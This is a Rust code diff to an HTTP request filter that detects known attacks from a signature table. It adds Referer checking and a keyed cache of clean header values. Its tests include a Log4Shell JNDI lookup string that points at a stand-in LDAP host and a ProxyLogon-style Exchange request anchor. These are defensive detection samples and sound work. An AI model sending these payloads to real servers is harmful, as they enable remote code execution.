@@ -1,10 +1,10 @@
 //! Requests in the form of known attacks: the table in `content/servers/attacks.toml`, compiled.
 
+use std::collections::HashSet;
 use std::sync::LazyLock;
 
 use aho_corasick::{AhoCorasick, packed};
 use regex::Regex;
-use rustc_hash::FxHashSet;
 
 /// The table.
 const TABLE: &str = include_str!("../../../../content/servers/attacks.toml");
@@ -65,20 +65,21 @@ const MAX_PART: usize = 4 * 1024;
 
 /// What is kept from request to request: room, and what need not be looked at again.
 #[derive(Default)]
-pub struct Room {
+pub struct Memory {
     /// A request in lower case.
     lower: String,
-    /// Agents in which no word of an attack stands. Logs hold few, again and again, and they are the longest text of
-    /// most requests.
-    clean_agents: FxHashSet<Box<str>>,
+    /// Agents and referrers in which no word of an attack stands: the longest texts of most requests, and often the same.
+    /// Clients choose them, so the hash has a key.
+    clean: HashSet<Box<str>>,
 }
 
-/// Agents remembered before the memory starts anew.
-const MOST_AGENTS: usize = 1_024;
+/// Texts remembered before the memory starts anew, and how long they may be, in bytes.
+const MOST_CLEAN: usize = 1_024;
+const LONGEST_CLEAN: usize = 512;
 
 /// The attack that `request` has the form of.
-pub(super) fn attack(request: &Request<'_>, room: &mut Room) -> Option<&'static Attack> {
-    BUILTIN.as_ref()?.find(request, room)
+pub(super) fn attack(request: &Request<'_>, memory: &mut Memory) -> Option<&'static Attack> {
+    BUILTIN.as_ref()?.find(request, memory)
 }
 
 /// The attack with this id.
@@ -115,16 +116,16 @@ impl Attacks {
         })
     }
 
-    fn find(&self, request: &Request<'_>, room: &mut Room) -> Option<&Attack> {
-        let is_clean_agent = self.is_clean_agent(request.agent, room);
-        room.lower.clear();
-        room.push(&[request.path, request.query, request.anchor, request.cookie]);
-        if is_clean_agent && self.has_no_word(&room.lower) {
+    fn find(&self, request: &Request<'_>, memory: &mut Memory) -> Option<&Attack> {
+        let is_sender_clean = self.is_clean(request.agent, memory) && self.is_clean(request.referer, memory);
+        memory.lower.clear();
+        memory.push(&[request.path, request.query, request.anchor, request.cookie]);
+        if is_sender_clean && self.has_no_word(&memory.lower) {
             return None;
         }
-        room.push(&[request.agent]);
+        memory.push(&[request.agent, request.referer]);
         let mut candidates = 0_u64;
-        for found in self.words.find_overlapping_iter(&*room.lower) {
+        for found in self.words.find_overlapping_iter(&*memory.lower) {
             let owner = self.owner.get(found.pattern().as_usize());
             candidates |= owner.map_or(0, |owner| 1 << owner);
         }
@@ -144,18 +145,19 @@ impl Attacks {
         })
     }
 
-    fn is_clean_agent(&self, agent: &str, room: &mut Room) -> bool {
-        if room.clean_agents.contains(agent) {
+    /// Whether no word of an attack stands in `text`, which other requests may have as well.
+    fn is_clean(&self, text: &str, memory: &mut Memory) -> bool {
+        if memory.clean.contains(text) {
             return true;
         }
-        room.lower.clear();
-        room.push(&[agent]);
-        let is_clean = self.has_no_word(&room.lower);
-        if is_clean && agent.len() <= MAX_PART {
-            if room.clean_agents.len() >= MOST_AGENTS {
-                room.clean_agents.clear();
+        memory.lower.clear();
+        memory.push(&[text]);
+        let is_clean = self.has_no_word(&memory.lower);
+        if is_clean && text.len() <= LONGEST_CLEAN {
+            if memory.clean.len() >= MOST_CLEAN {
+                memory.clean.clear();
             }
-            room.clean_agents.insert(agent.into());
+            memory.clean.insert(text.into());
         }
         is_clean
     }
@@ -169,7 +171,7 @@ impl Attacks {
     }
 }
 
-impl Room {
+impl Memory {
     /// Appends `parts` in lower case, each on a line.
     fn push(&mut self, parts: &[&str]) {
         let start = self.lower.len();
@@ -224,7 +226,7 @@ mod tests {
             query,
             ..Request::default()
         };
-        attack(&request, &mut Room::default()).map(|attack| attack.id.as_str())
+        attack(&request, &mut Memory::default()).map(|attack| attack.id.as_str())
     }
 
     #[test]
@@ -284,19 +286,22 @@ mod tests {
             anchor: "ServerInfo~a]@exch01.example:444/mapi/emsmdb/?#",
             ..Request::default()
         };
-        assert_eq!(attack(&anchored, &mut Room::default()).unwrap().id, "proxylogon");
+        assert_eq!(
+            attack(&anchored, &mut Memory::default()).unwrap().id,
+            "proxylogon"
+        );
     }
 
     #[test]
     fn an_agent_is_clean_or_hostile_whatever_came_before() {
-        let mut room = Room::default();
+        let mut memory = Memory::default();
         let mut is_attack = |path: &str, agent: &str| {
             let request = Request {
                 path,
                 agent,
                 ..Request::default()
             };
-            attack(&request, &mut room).is_some()
+            attack(&request, &mut memory).is_some()
         };
         let shell = "${jndi:ldap://x.example/a}";
         for _ in 0..2 {
@@ -304,11 +309,18 @@ mod tests {
             assert!(is_attack("/", shell));
             assert!(is_attack("/x${jndi:ldap://x.example/a}", "Mozilla/5.0"));
         }
-        for number in 0..2 * MOST_AGENTS {
+        for number in 0..2 * MOST_CLEAN {
             assert!(!is_attack("/", &format!("Agent/{number}")));
         }
         assert!(is_attack("/", shell));
-        assert!(room.clean_agents.len() <= MOST_AGENTS);
+        let referred = Request {
+            path: "/",
+            agent: "Mozilla/5.0",
+            referer: shell,
+            ..Request::default()
+        };
+        assert!(attack(&referred, &mut memory).is_some());
+        assert!(memory.clean.len() <= MOST_CLEAN);
     }
 
     #[test]
@@ -342,6 +354,6 @@ mod tests {
             anchor: "ServerInfo~localhost/owa",
             ..Request::default()
         };
-        assert!(attack(&own, &mut Room::default()).is_none());
+        assert!(attack(&own, &mut Memory::default()).is_none());
     }
 }
